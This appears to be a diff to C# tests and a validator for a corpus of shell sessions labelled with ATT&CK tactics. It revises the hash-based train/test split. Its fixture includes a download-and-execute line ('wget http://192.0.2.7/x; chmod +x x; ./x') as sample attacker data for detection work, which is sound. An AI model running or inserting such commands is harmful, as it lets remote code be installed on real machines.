@@ -1,4 +1,3 @@
-using System.Buffers.Binary;
 using System.Globalization;
 using System.Security.Cryptography;
 using System.Text;
@@ -51,30 +50,37 @@ public class SessionCorpusTests
         Assert.True(s.Sessions >= 400, $"{s.Sessions} sessions");
     }
 
-    // A small well-formed corpus; each broken variant below changes one thing.
+    // A small well-formed corpus of two hand-written families; each broken variant below changes one thing.
     private static string Good()
     {
+        Dictionary<string, string> split = SessionCorpusCheck.HeldOut(["fa", "fb"]);
+        string test = split.Single(s => s.Value == "test").Key, train = split.Single(s => s.Value == "train").Key;
         var sb = new StringBuilder(Header).Append('\n');
-        string Family(string split)
-        {
-            for (int k = 0; ; k++)
-                if (SessionCorpusCheck.SplitOf($"f{k}") == split) return $"f{k}";
-        }
-        string train = Family("train"), test = Family("test");
         for (int s = 0; s < 8; s++)
         {
             string family = s == 0 ? test : train;
             string id = $"lin-{s:D5}";
-            string p = $"{id},{SessionCorpusCheck.SplitOf(family)},{family},handwritten,web-01,root,";
+            string p = $"{id},{split[family]},{family},handwritten,web-01,root,";
             sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,0,cat /proc/cpuinfo,discovery,T1082\n");
             sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,discovery,T1082\n");
             sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,2,wc -l,discovery,T1082\n");
             sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",0,wget http://192.0.2.7/x,command-and-control,T1105\n");
-            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",1,chmod +x x,defense-evasion,T1222.002\n");
+            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",1,chmod +x x,execution,T1059.004\n");
             sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",2,./x,execution,T1059.004\n");
             sb.Append(p).Append("2026-01-05T10:00:09.000Z,2,ls -la,0,ls -la,benign,\n");
         }
         return sb.ToString();
+    }
+
+    [Fact]
+    public void Held_out_families_are_every_fifth_in_hash_order()
+    {
+        string[] names = [.. Enumerable.Range(0, 23).Select(i => $"family-{i}")];
+        Dictionary<string, string> split = SessionCorpusCheck.HeldOut(names);
+        Assert.Equal(5, split.Values.Count(v => v == "test"));   // ranks 0, 5, 10, 15, 20
+        string first = names.OrderBy(n => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(n))), StringComparer.Ordinal).First();
+        Assert.Equal("test", split[first]);
+        Assert.Equal(split, SessionCorpusCheck.HeldOut(names.Reverse()));   // a function of the set, not of the order
     }
 
     [Fact]
@@ -91,6 +97,7 @@ public class SessionCorpusTests
         { "statement,tactic,technique\n", "statement,technique,tactic\n", "header" },
         { ",discovery,T1082\n", ",discoverie,T1082\n", "tactic" },
         { ",discovery,T1082\n", ",execution,T1082\n", "does not serve" },
+        { ",execution,T1059.004\n", ",defense-evasion,T1059.004\n", "does not serve" },
         { ",discovery,T1082\n", ",discovery,T9999\n", "not in the catalog" },
         { ",benign,\n", ",benign,T1082\n", "benign" },
         { ",discovery,T1082\n", ",discovery,\n", "technique" },
@@ -161,11 +168,14 @@ internal static class SessionCorpusCheck
     private static readonly HashSet<string> s_splits = ["train", "test"];
     private static readonly HashSet<string> s_sources = ["handwritten", "atomic", "benign", "mixed"];
 
-    /// <summary>The split rule: SHA-256 of the family name (UTF-8), first 8 hex digits as an integer, mod 5 == 0 → test.</summary>
-    internal static string SplitOf(string family)
+    /// <summary>The split rule of one group of families: names ordered by the lower-case hex SHA-256 of their UTF-8 bytes
+    /// (then by name), ranks 0, 5, 10, … are "test", the others "train".</summary>
+    internal static Dictionary<string, string> HeldOut(IEnumerable<string> names)
     {
-        uint first8Hex = BinaryPrimitives.ReadUInt32BigEndian(SHA256.HashData(Encoding.UTF8.GetBytes(family)));
-        return first8Hex % 5 == 0 ? "test" : "train";
+        string[] ordered = [.. names.Distinct(StringComparer.Ordinal)
+                                    .OrderBy(n => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(n))), StringComparer.Ordinal)
+                                    .ThenBy(n => n, StringComparer.Ordinal)];
+        return ordered.Select((n, rank) => (n, rank)).ToDictionary(x => x.n, x => x.rank % 5 == 0 ? "test" : "train", StringComparer.Ordinal);
     }
 
     internal static SessionCorpusSummary Run(string text, string source, out List<string> problems)
@@ -181,6 +191,7 @@ internal static class SessionCorpusCheck
             Problem(1, $"header is '{string.Join(',', fields)}', expected '{SessionCorpusTests.Header}'");
 
         var splitOfFamily = new Dictionary<string, string>(StringComparer.Ordinal);
+        var splitsOfFamily = new Dictionary<string, (string Group, long FirstLine, HashSet<string> Splits)>(StringComparer.Ordinal);
         var familiesInBoth = new HashSet<string>(StringComparer.Ordinal);
         var finished = new HashSet<string>(StringComparer.Ordinal);
         var handwritten = new HashSet<string>(StringComparer.Ordinal);
@@ -216,7 +227,11 @@ internal static class SessionCorpusCheck
             if (!s_splits.Contains(split)) Problem(line, $"split '{split}' is not train or test");
             if (!s_sources.Contains(src)) Problem(line, $"source '{src}' is not one of {string.Join(", ", s_sources)}");
             if (family.Length == 0) Problem(line, "empty family");
-            if (SplitOf(family) != split) Problem(line, $"family '{family}' is in {split}, the split rule puts it in {SplitOf(family)}");
+            // Mixed sessions are held out with their attacker template, so they share the hand-written group.
+            string group = src == "mixed" ? "handwritten" : src;
+            if (!splitsOfFamily.TryGetValue(family, out var seenHere)) splitsOfFamily[family] = seenHere = (group, line, []);
+            if (seenHere.Group != group) Problem(line, $"family '{family}' is both {seenHere.Group} and {group}");
+            seenHere.Splits.Add(split);
             if (splitOfFamily.TryGetValue(family, out string? seen) && seen != split && familiesInBoth.Add(family))
                 Problem(line, $"family '{family}' is in both splits");
             splitOfFamily.TryAdd(family, split);
@@ -290,6 +305,13 @@ internal static class SessionCorpusCheck
             statementIndex = si + 1;
         }
         CloseCommand();
+        foreach (var byGroup in splitsOfFamily.GroupBy(f => f.Value.Group, StringComparer.Ordinal))
+        {
+            Dictionary<string, string> rule = HeldOut(byGroup.Select(f => f.Key));
+            foreach (var (family, (_, firstLine, splits)) in byGroup)
+                foreach (string wrong in splits.Where(x => x != rule[family]))
+                    Problem(firstLine, $"family '{family}' has {wrong} sessions, the split rule puts it in {rule[family]}");
+        }
         problems = found;
         return new SessionCorpusSummary(sessions, statements, handwritten.Count, sessions == 0 ? 0 : testSessions / (double)sessions, sources, perTactic);
     }
